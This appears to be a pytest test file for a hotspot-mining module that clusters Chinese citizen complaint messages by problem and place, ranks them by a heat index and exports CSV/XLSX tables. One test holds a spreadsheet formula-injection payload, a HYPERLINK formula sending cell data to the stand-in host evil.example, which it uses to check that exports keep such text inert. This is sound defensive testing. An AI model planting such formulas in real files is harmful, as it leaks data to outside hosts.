"""Hotspot mining (热点发现): grouping on a crafted set, the heat index, the CLI file contract and the
top of the TipDM 2020 hotspot file (skipped when the shared data is not there)."""

from __future__ import annotations

import csv
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import load_workbook

from gongzhi.intelligence.nlp.hotspots import (
    TABLE_COLUMNS,
    HotspotRecord,
    find_hotspots,
    growth_rate,
    heat_index,
    parse_time,
    recency_of,
)
from gongzhi.intelligence.nlp.places import extract_places, extract_regions, places_compatible

DATA = Path("/work/shared/data/tipdm2020/hotspot_messages.csv")
T0 = datetime(2019, 11, 1, 9, 0)

# (title, details, place offset in days) — realistic messages of three problems at four places
MIXING_PLANT = [
    (
        "A2区丽发新城小区附近搅拌站噪音扰民",
        "丽发新城小区旁边新建的搅拌站日夜施工，噪音和粉尘严重影响居民休息。",
    ),
    (
        "投诉A2区丽发新城附近建搅拌站噪音扰民",
        "搅拌站离丽发新城小区不到一百米，晚上搅拌机轰鸣，孩子无法入睡。",
    ),
    ("丽发新城小区旁建搅拌厂严重扰民", "丽发新城小区旁边的搅拌厂半夜还在作业，噪音扰民，粉尘污染严重。"),
    (
        "A市丽发新城小区附近搅拌站粉尘大噪音大",
        "请环保部门查处丽发新城附近的搅拌站，粉尘和噪音让业主苦不堪言。",
    ),
    ("A2区丽发新城小区附近的搅拌站是否合法", "丽发新城小区附近搅拌站噪音扰民，想问是否办理了环评手续。"),
]
MIXING_PLANT_ELSEWHERE = [
    ("A5区魅力之城小区附近搅拌站噪音扰民", "魅力之城小区旁边的搅拌站日夜施工，噪音和粉尘严重影响居民休息。"),
    ("A5区魅力之城小区旁建搅拌厂严重扰民", "魅力之城小区旁边的搅拌厂半夜还在作业，噪音扰民，粉尘污染严重。"),
    (
        "投诉A5区魅力之城附近建搅拌站噪音扰民",
        "搅拌站离魅力之城小区不到一百米，晚上搅拌机轰鸣，孩子无法入睡。",
    ),
]
CAR_LOAN = [
    ("A市58车贷案件立案半年毫无进展", "58车贷恶性退出，经侦立案已近半年，至今没有公布任何案情进展。"),
    ("请求过问A市58车贷案件进展情况", "58车贷平台跑路，受害人的血汗钱追不回来，恳请领导过问案件进展。"),
    ("A市58车贷恶性退出案件为何不通报进展", "58车贷案件立案至今没有发过一次案情通报，出借人非常焦虑。"),
]
UNRELATED = [
    ("A7县星沙大道路灯晚上不亮", "星沙大道东段的路灯已经一个月不亮了，夜间出行很不安全。"),
    ("A3区麓谷小学门口交通拥堵", "每天上学放学时间麓谷小学门口车辆乱停，交通非常拥堵。"),
    ("咨询A市人才购房补贴申请条件", "本人硕士毕业来A市工作，想咨询人才购房补贴需要哪些材料。"),
    ("A1区东方银座小区水管漏水无人管", "东方银座小区水管漏水已有两年，物业一直推诿不修。"),
]


def _records(rows, *, prefix, start, step_hours=20, users=None):
    return [
        HotspotRecord(
            id=f"{prefix}{k}",
            title=title,
            text=details,
            time=start + timedelta(hours=step_hours * k),
            reporter=(users[k] if users else f"{prefix}-user{k}"),
        )
        for k, (title, details) in enumerate(rows)
    ]


def _crafted():
    return (
        _records(MIXING_PLANT, prefix="L", start=T0)
        + _records(MIXING_PLANT_ELSEWHERE, prefix="M", start=T0 + timedelta(days=2))
        + _records(CAR_LOAN, prefix="C", start=T0 + timedelta(days=1))
        + _records(UNRELATED, prefix="U", start=T0, step_hours=30)
    )


def _groups(hotspots):
    return {frozenset(h.member_ids) for h in hotspots}


# --- places -----------------------------------------------------------------------------------------


def test_places_are_found_in_titles_without_the_administrative_prefix():
    assert extract_places("A市A5区魅力之城小区临街门面油烟扰民") == ["魅力之城小区"]
    assert extract_places("坚决反对在A7县诺亚山林小区门口设置医院") == ["诺亚山林小区"]
    assert extract_places("A7县泉塘街道漓楚东路与东六路交汇处是否可以架设人行天桥")[:2] == [
        "漓楚东路",
        "东六路",
    ]
    assert extract_places("关于A市人才购房补贴的疑问") == []
    assert extract_regions("A市A3区洋湖街道一工地噪音扰民") == ["A市", "A3区", "洋湖街道"]


def test_place_names_are_compared_by_their_core():
    assert places_compatible("魅力之城小区", "劳动东路魅力之城小区")
    assert places_compatible("丽发新城", "丽发新城小区")
    assert not places_compatible("丽发新城小区", "魅力之城小区")
    assert not places_compatible("星沙大道", "星沙四区凉塘路")


# --- grouping on a crafted set ----------------------------------------------------------------------


def test_hotspot_grouping_on_a_crafted_set():
    hotspots = find_hotspots(_crafted(), window_days=30, min_size=2)
    groups = _groups(hotspots)
    # the same problem at the same place: one group
    assert frozenset(f"L{k}" for k in range(5)) in groups
    # the same problem at another place: another group
    assert frozenset(f"M{k}" for k in range(3)) in groups
    # a problem without a place (a case people report together) is grouped by what it is about
    assert frozenset(f"C{k}" for k in range(3)) in groups
    # unrelated single messages are not hotspots
    assert not any(member.startswith("U") for h in hotspots for member in h.member_ids)
    assert len(hotspots) == 3

    first = hotspots[0]
    assert first.rank == 1 and [h.rank for h in hotspots] == [1, 2, 3]
    assert set(first.member_ids) == {f"L{k}" for k in range(5)}  # most reporters, most recent
    assert first.place == "A2区丽发新城小区"
    assert "丽发新城" in first.summary and "搅拌" in first.summary
    assert first.start == T0 and first.end == T0 + timedelta(hours=80)
    assert first.reporters == 5 and first.size == 5
    assert hotspots[-1].heat <= hotspots[0].heat


def test_a_title_posted_again_is_not_taken_for_a_place_name():
    """Four residents of one building copy the same title: no 8-character piece of it is a place."""
    heating = [("暖气不热室温只有14度", "家里暖气片一直是凉的，老人孩子冻得睡不着，请供热公司来看看。")] * 4
    (hotspot,) = find_hotspots(_records(heating, prefix="H", start=T0), min_size=2)

    assert hotspot.size == 4
    assert hotspot.place == ""  # not "热室温只有14度"
    # a name that differently worded titles share is still found
    (loans,) = find_hotspots(_records(CAR_LOAN + CAR_LOAN[:1], prefix="C", start=T0), min_size=2)
    assert loans.place.startswith("58车贷")


def test_different_problems_at_one_place_are_different_hotspots():
    fees = [
        ("A2区丽发新城小区物业乱收停车费", "丽发新城小区物业每月向业主多收停车费，没有任何收费依据。"),
        ("丽发新城小区物业停车费收费不合理", "丽发新城物业擅自提高停车费，业主多次反映无人理会。"),
        ("A市丽发新城小区停车收费标准过高", "丽发新城小区的停车费比周边小区高出一倍，物业拒绝公示收费标准。"),
    ]
    records = _records(MIXING_PLANT, prefix="L", start=T0) + _records(fees, prefix="F", start=T0)
    groups = _groups(find_hotspots(records))
    assert frozenset(f"L{k}" for k in range(5)) in groups
    assert frozenset(f"F{k}" for k in range(3)) in groups


def test_messages_outside_the_window_do_not_join_the_hotspot():
    old = _records(MIXING_PLANT[:2], prefix="OLD", start=T0 - timedelta(days=200))
    recent = _records(MIXING_PLANT[2:], prefix="NEW", start=T0)
    records = old + recent

    groups = _groups(find_hotspots(records, window_days=30))
    assert groups == {frozenset({"OLD0", "OLD1"}), frozenset({"NEW0", "NEW1", "NEW2"})}

    # a long window joins them; a horizon drops the old reports before grouping
    assert _groups(find_hotspots(records, window_days=365)) == {frozenset(r.id for r in records)}
    assert _groups(find_hotspots(records, horizon_days=90)) == {frozenset({"NEW0", "NEW1", "NEW2"})}


def test_a_problem_reported_again_and_again_stays_one_hotspot():
    # one report every three weeks for four months: every gap is inside the 30-day window
    titles = [
        "A2区丽发新城小区附近搅拌站噪音扰民",
        "A2区丽发新城小区附近搅拌站噪音扰民仍未解决",
        "丽发新城小区附近搅拌站噪音扰民问题再次反映",
        "A2区丽发新城小区附近搅拌站夜间噪音扰民",
        "再次投诉A2区丽发新城小区附近搅拌站噪音扰民",
    ]
    records = [
        HotspotRecord(id=f"R{k}", title=title, time=T0 + timedelta(days=21 * k), reporter=f"u{k}")
        for k, title in enumerate(titles)
    ]
    (only,) = find_hotspots(records, window_days=30)
    assert only.size == 5 and (only.end - only.start).days == 84
    # with a 14-day window every report stands alone
    assert find_hotspots(records, window_days=14) == []


def test_distinct_places_in_the_region_field_are_never_grouped():
    texts = MIXING_PLANT[:2] * 2  # the same two messages, filed in two different communities
    records = [
        HotspotRecord(
            id=f"L{k}",
            title=title,
            text=details,
            time=T0 + timedelta(hours=k),
            reporter=f"u{k}",
            region="430102.05" if k < 2 else "430103.01",
        )
        for k, (title, details) in enumerate(texts)
    ]
    assert _groups(find_hotspots(records)) == {frozenset({"L0", "L1"}), frozenset({"L2", "L3"})}
    # a region and one of its sub-regions (a prefix) may be grouped
    records = [
        HotspotRecord(**{**r.__dict__, "region": "430102.05" + ".01" * (k % 2)})
        for k, r in enumerate(records)
    ]
    assert _groups(find_hotspots(records)) == {frozenset({"L0", "L1", "L2", "L3"})}


def test_min_size_and_min_reporters():
    records = _records(MIXING_PLANT[:3], prefix="L", start=T0, users=["same", "same", "same"])
    assert find_hotspots(records, min_size=4) == []
    assert find_hotspots(records, min_reporters=2) == []
    (only,) = find_hotspots(records)
    assert only.reporters == 1 and only.size == 3
    assert find_hotspots([]) == []


# --- heat index -------------------------------------------------------------------------------------


def test_heat_index_increases_with_every_factor():
    base = {"messages": 5, "reporters": 4, "support": 10, "growth": 0.0, "recency": 0.5}
    value = heat_index(**base)
    for name, more in [("messages", 6), ("reporters", 5), ("support", 50), ("growth", 0.5), ("recency", 0.9)]:
        assert heat_index(**{**base, name: more}) > value, name
    # reporters weigh more than messages: one person posting again counts less than a new person
    assert heat_index(**{**base, "reporters": 5}) > heat_index(**{**base, "messages": 6})
    # log scale: 1,000 likes do not outweigh everything else
    assert heat_index(messages=2, reporters=2, support=1000) < heat_index(messages=30, reporters=30)
    # negative support (more dislikes) counts as none
    assert heat_index(messages=3, reporters=3, support=-20) == heat_index(messages=3, reporters=3)


def test_growth_and_recency():
    now = T0 + timedelta(days=60)
    rising = [now - timedelta(days=d) for d in (1, 2, 3, 5, 40)]
    fading = [now - timedelta(days=d) for d in (20, 25, 30, 35, 50)]
    assert growth_rate(rising, now=now) > 0 > growth_rate(fading, now=now)
    assert growth_rate([now - timedelta(days=300)], now=now) == 0.0
    assert recency_of(now, now=now) == 1.0
    assert recency_of(now - timedelta(days=30), now=now, half_life_days=30) == pytest.approx(0.5)


def test_more_reporters_make_a_hotter_hotspot():
    few = find_hotspots(_records(MIXING_PLANT[:3], prefix="L", start=T0))
    many = find_hotspots(_records(MIXING_PLANT, prefix="L", start=T0))
    assert many[0].heat > few[0].heat


def test_parse_time_reads_the_formats_of_real_exports():
    assert parse_time("2019/1/6 12:09:38") == datetime(2019, 1, 6, 12, 9, 38)
    assert parse_time("2019-01-06 12:09:38") == datetime(2019, 1, 6, 12, 9, 38)
    assert parse_time("2019年1月6日") == datetime(2019, 1, 6)
    assert parse_time("not a date") is None
    assert parse_time("2019-13-40") is None


# --- CLI file contract --------------------------------------------------------------------------------

HEADER = ["留言编号", "留言用户", "留言主题", "留言时间", "留言详情", "反对数", "点赞数"]


@pytest.fixture
def messages_csv(tmp_path):
    path = tmp_path / "messages.csv"
    rows = []
    for record in _crafted():
        stamp = record.time.strftime("%Y/%-m/%-d %H:%M:%S")
        details = f"\n\t\t\t\t\t\n\t\t\t\t\t{record.text}"
        likes = "120" if record.id.startswith("C") else "1"
        rows.append([record.id, record.reporter, record.title, stamp, details, "0", likes])
    rows.append(["BAD1", "u-bad", "时间缺失的留言", "", "没有时间的行会被跳过", "0", "0"])
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def test_cli_writes_the_ranked_table_as_xlsx(messages_csv, tmp_path, capsys):
    out = tmp_path / "hotspots.xlsx"
    call_command("nlp", "hotspots", "--input", str(messages_csv), "--top", "2", "--output", str(out))
    assert "top 2 of 3 hotspots from 15 messages" in capsys.readouterr().out

    workbook = load_workbook(out, read_only=True)
    assert workbook.sheetnames == ["热点问题表", "热点问题留言明细"]
    rows = list(workbook["热点问题表"].iter_rows(values_only=True))
    assert list(rows[0]) == TABLE_COLUMNS
    assert [r[0] for r in rows[1:]] == [1, 2]
    table = [dict(zip(TABLE_COLUMNS, r, strict=True)) for r in rows[1:]]
    assert table[0]["热度指数"] >= table[1]["热度指数"] > 0
    members = [set(t["留言编号"].split(",")) for t in table]
    assert {"L0", "L1", "L2", "L3", "L4"} in members
    assert all(" 至 " in t["时间范围"] for t in table)

    detail = list(workbook["热点问题留言明细"].iter_rows(values_only=True))
    assert list(detail[0]) == ["问题ID", *HEADER]
    assert len(detail) - 1 == sum(len(m) for m in members)
    assert {row[1] for row in detail[1:]} == set().union(*members)
    workbook.close()


def test_cli_xlsx_keeps_text_beginning_with_equals_as_text(tmp_path):
    source = tmp_path / "messages.csv"
    link = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
    rows = []
    for record in _crafted():
        title = f"=={record.title}==" if record.id.startswith("L") else record.title
        details = link if record.id == "L0" else record.text
        user = "=1+1" if record.id == "L1" else record.reporter
        rows.append([record.id, user, title, record.time.strftime("%Y/%m/%d %H:%M:%S"), details, "0", "3"])
    with open(source, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        writer.writerows(rows)
    out = tmp_path / "hotspots.xlsx"

    call_command("nlp", "hotspots", "--input", str(source), "--output", str(out))

    workbook = load_workbook(out)  # not read-only: cells keep their data type
    ranked, detail = workbook["热点问题表"], workbook["热点问题留言明细"]
    for sheet in (ranked, detail):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n"}, (sheet.title, cell.coordinate, cell.value)
    first = [cell.value for cell in ranked[2]]
    assert first[5].startswith("==") and first[5].endswith("==")  # 问题描述, the title as written
    assert [ranked.cell(2, c).data_type for c in (1, 2, 3, 7, 8, 9)] == ["n"] * 6  # rank, heat, counts
    assert ranked.cell(2, 3).value > 0 and ranked.cell(2, 7).value == 5
    messages = {row[1]: row for row in detail.iter_rows(min_row=2, values_only=True)}
    assert messages["L0"][5] == link
    assert messages["L1"][2] == "=1+1"
    assert messages["L2"][3] == f"=={MIXING_PLANT[2][0]}=="
    assert isinstance(messages["L0"][0], int)  # 问题ID, the rank
    workbook.close()


def test_cli_creates_the_output_directory_and_refuses_a_directory(messages_csv, tmp_path):
    out = tmp_path / "nodir" / "x.xlsx"
    call_command("nlp", "hotspots", "--input", str(messages_csv), "--output", str(out))
    assert load_workbook(out, read_only=True).sheetnames == ["热点问题表", "热点问题留言明细"]
    assert [p.name for p in out.parent.iterdir()] == ["x.xlsx"]

    with pytest.raises(CommandError, match="nodir: is a directory"):
        call_command("nlp", "hotspots", "--input", str(messages_csv), "--output", str(out.parent))


def test_cli_xlsx_lists_every_member_message_when_ids_are_blank_or_repeated(tmp_path):
    source = tmp_path / "messages.csv"
    rows = []
    for record in _crafted():
        ident = "" if record.id[0] in "LU" else "重复编号"  # blank for one hotspot, repeated for the others
        stamp = record.time.strftime("%Y/%m/%d %H:%M:%S")
        rows.append([ident, record.reporter, record.title, stamp, record.text, "0", "1"])
    with open(source, "w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER)
        writer.writerows(rows)
    out = tmp_path / "hotspots.xlsx"

    call_command("nlp", "hotspots", "--input", str(source), "--output", str(out))

    workbook = load_workbook(out, read_only=True)
    ranked = list(workbook["热点问题表"].iter_rows(min_row=2, values_only=True))
    detail = list(workbook["热点问题留言明细"].iter_rows(min_row=2, values_only=True))
    workbook.close()
    assert len(ranked) == 3
    assert len(detail) == sum(r[6] for r in ranked) == 11  # every member, once
    titles = {rank: sorted(row[3] for row in detail if row[0] == rank) for rank, *_ in ranked}
    expected = [sorted(t for t, _ in group) for group in (MIXING_PLANT, MIXING_PLANT_ELSEWHERE, CAR_LOAN)]
    assert sorted(titles.values()) == sorted(expected)
    blank = next(r for r in ranked if r[9].startswith("#"))
    assert blank[9] == ",".join(f"#{k}" for k in range(1, 6))  # the ranked table's row ids for blank ids
    assert sorted(row[3] for row in detail if row[0] == blank[0]) == sorted(t for t, _ in MIXING_PLANT)


def test_cli_writes_csv_and_rejects_missing_columns(messages_csv, tmp_path):
    out = tmp_path / "hotspots.csv"
    call_command("nlp", "hotspots", "--input", str(messages_csv), "--output", str(out), "--window-days", "30")
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == TABLE_COLUMNS
    assert [r[0] for r in rows[1:]] == ["1", "2", "3"]

    with pytest.raises(CommandError, match="留言时间"):
        call_command(
            "nlp", "hotspots", "--input", str(messages_csv), "--output", str(out), "--time-col", "留言时间2"
        )


# --- real data ----------------------------------------------------------------------------------------


@pytest.mark.skipif(not DATA.exists(), reason="TipDM 2020 data not available")
def test_top_hotspots_of_the_tipdm_file_are_real_multi_message_problems():
    from gongzhi.intelligence.nlp.hotspots import records_from_table
    from gongzhi.intelligence.nlp.tables import read_table

    records, skipped = records_from_table(read_table(DATA))
    assert skipped == 0 and len(records) == 4326
    top = find_hotspots(records)[:5]
    for hotspot in top:
        assert hotspot.size >= 5 and hotspot.reporters >= 3, hotspot
    places = " ".join(h.place for h in top)
    for known in ("丽发新城", "伊景园滨河苑", "58车贷", "月亮岛路"):
        assert known in places
    mixing = next(h for h in top if "丽发新城" in h.place)
    by_id = {r.id: r for r in records}
    assert sum("搅拌" in by_id[m].title for m in mixing.member_ids) >= 0.9 * mixing.size
